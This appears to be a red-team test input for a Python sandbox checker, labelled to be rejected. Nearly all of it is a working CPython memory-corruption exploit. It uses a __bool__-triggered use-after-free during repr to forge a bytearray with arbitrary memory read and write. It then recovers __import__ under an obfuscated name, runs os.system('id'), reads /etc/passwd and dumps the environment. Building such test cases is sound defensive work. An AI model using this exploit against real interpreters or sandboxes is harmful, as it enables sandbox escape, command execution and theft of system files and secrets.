# expect: reject memory
# line: 29
# why: round 98 (red team): round 97d's Thread(daemon=Wipe()) with __bool__ bound in the class body to a module-level def, not defined there: a program whose text hooks are all bindings was never put in text mode
import threading
import typing

L = []
G = []
KEEP = []
HDR = []


def q(v):
    return v.to_bytes(8, "little")


class Box:
    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")


def flag(self):
    KEEP[0][104:152] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
    G.append(self)
    return False


def wipe(self):
    if not KEEP:
        L.clear()
        buf = bytearray(159)
        buf[0:112] = HDR[0]
        KEEP.append(buf)
    return False


class Flag:
    __bool__ = flag


class Wipe:
    __bool__ = wipe


NAME = "T"
victim = Box()
base = id(victim) - 32
HDR.append(
    q(base + 56) + q(0) + q(0) + q(0)
    + q(1 << 40) + q(id(typing.TypeVar)) + q(0)
    + q(id(NAME)) + q(base + 96) + q(id(False)) + q(0) + q(0)
    + q(1 << 40) + q(id(Flag))
)
rec = threading.Thread(daemon=Wipe())
L.append(slice(rec, victim))
rec = None
victim = None
try:
    text = repr(L)
except Exception:
    pass
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
